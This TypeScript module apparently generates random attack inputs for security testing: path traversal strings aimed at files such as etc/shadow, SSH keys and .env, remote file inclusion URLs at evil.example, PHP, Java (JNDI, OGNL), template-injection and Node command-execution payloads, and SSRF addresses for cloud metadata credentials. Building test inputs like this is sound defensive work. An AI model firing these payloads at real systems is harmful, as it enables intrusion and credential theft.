/** Attacks with files, addresses and code of servers. */
import type { Random } from './random.ts'

export function localFile(random: Random): string {
  const file = random.of([
    'etc/passwd',
    'etc/shadow',
    'etc/hosts',
    'proc/self/environ',
    'windows/win.ini',
    'boot.ini',
    'var/log/apache2/access.log',
    'root/.ssh/id_rsa',
    '.env',
    'WEB-INF/web.xml',
    '.git/config',
    '.htpasswd',
  ])
  const up = random.of(['../', '..\\', '....//', '..;/', '%2e%2e/', '..%2f', '..%5c', '%252e%252e%252f', '..%c0%af'])
  const forms = [
    () => up.repeat(random.below(6) + 2) + file,
    () => `/${file}`,
    () => `/var/www/html/../../../${file}`,
    () => `file:///${file}`,
    () => `${'../'.repeat(random.below(6) + 2)}${file}\0.png`,
    () => `./././../../${file}`,
  ]
  return random.of(forms)()
}

export function remoteFile(random: Random): string {
  const host = random.of(['http://192.0.2.7/', 'http://evil.example/', 'https://evil.example/', 'ftp://evil.example/'])
  const file = random.of(['shell.txt?', 'x.php?', 'c99.txt???', 'r57.gif?', 'cmd.txt?cmd='])
  return random.of([
    () => host + file,
    () => `http://192.0.2.7/${file}`,
    () => `http://user@evil.example/${file}`,
    () => `file:${host}${file}`,
  ])()
}

export function phpCode(random: Random): string {
  const call = random.of([
    'system',
    'exec',
    'passthru',
    'shell_exec',
    'popen',
    'assert',
    'eval',
    'phpinfo',
    'file_get_contents',
    'base64_decode',
  ])
  const forms = [
    () => `<?php ${call}($_GET['c']); ?>`,
    () => `<?= ${call}('id') ?>`,
    () => `php://filter/convert.base64-encode/resource=index.php`,
    () => `php://input`,
    () => `data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+`,
    () => `expect://id`,
    () => `phar://x.phar/a`,
    () => `O:8:"stdClass":1:{s:1:"a";i:1;}`,
    () => `\${@${call}('id')}`,
    () => `;${call}(base64_decode('aWQ='));`,
    () => `$_REQUEST[${call}]`,
    () => `allow_url_include=1&auto_prepend_file=php://input`,
  ]
  return random.of(forms)()
}

export function javaCode(random: Random): string {
  const scheme = random.of(['ldap', 'rmi', 'dns', 'ldaps'])
  const forms = [
    () => `\${jndi:${scheme}://evil.example/a}`,
    () => `\${\${lower:j}ndi:${scheme}://evil.example/a}`,
    () => `\${\${::-j}\${::-n}\${::-d}\${::-i}:${scheme}://evil.example/a}`,
    () => `\${\${env:X:-j}ndi:${scheme}://evil.example/a}`,
    () => `%{(#_memberAccess['allowStaticMethodAccess']=true)(#a=@java.lang.Runtime@getRuntime().exec('id'))}`,
    () => `T(java.lang.Runtime).getRuntime().exec('id')`,
    () => `class.module.classLoader.resources.context.parent.pipeline.first.pattern=x`,
    () => `java.lang.ProcessBuilder`,
    () => `rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==`,
    () => `org.apache.commons.collections.functors.InvokerTransformer`,
    () => `\${script:javascript:java.lang.Runtime.getRuntime().exec('id')}`,
    () => `new javax.script.ScriptEngineManager().getEngineByName("js")`,
  ]
  return random.of(forms)()
}

export function templateCode(random: Random): string {
  const forms = [
    () => `{{${random.below(90) + 10}*${random.below(90) + 10}}}`,
    () => `{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`,
    () => `{{''.__class__.__mro__[1].__subclasses__()}}`,
    () => `<%= system("id") %>`,
    () => `#{${random.below(90) + 10}*7}`,
    () => `require('child_process').exec('id')`,
    () => `process.mainModule.require('child_process').execSync('id')`,
    () => `_$$ND_FUNC$$_function(){require('child_process').exec('id')}()`,
    () => `{%import os%}{{os.popen('id').read()}}`,
    () => `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("id")}`,
    () => `constructor.constructor('return process')().exit()`,
    () => `__proto__[isAdmin]=1`,
  ]
  return random.of(forms)()
}

export function innerAddress(random: Random): string {
  const host = random.of([
    '127.0.0.1',
    'localhost',
    '169.254.169.254',
    '[::1]',
    '0.0.0.0',
    '10.0.0.1',
    '192.168.0.1',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    'metadata.google.internal',
    '127.0.0.1.nip.io',
    '100.100.100.200',
  ])
  const path = random.of([
    '/',
    '/admin',
    '/latest/meta-data/iam/security-credentials/',
    '/computeMetadata/v1/',
    ':8080/',
    ':6379/',
    ':2375/containers/json',
  ])
  const scheme = random.of(['http://', 'http://', 'https://', 'gopher://', 'dict://', 'ftp://'])
  return scheme + host + path
}
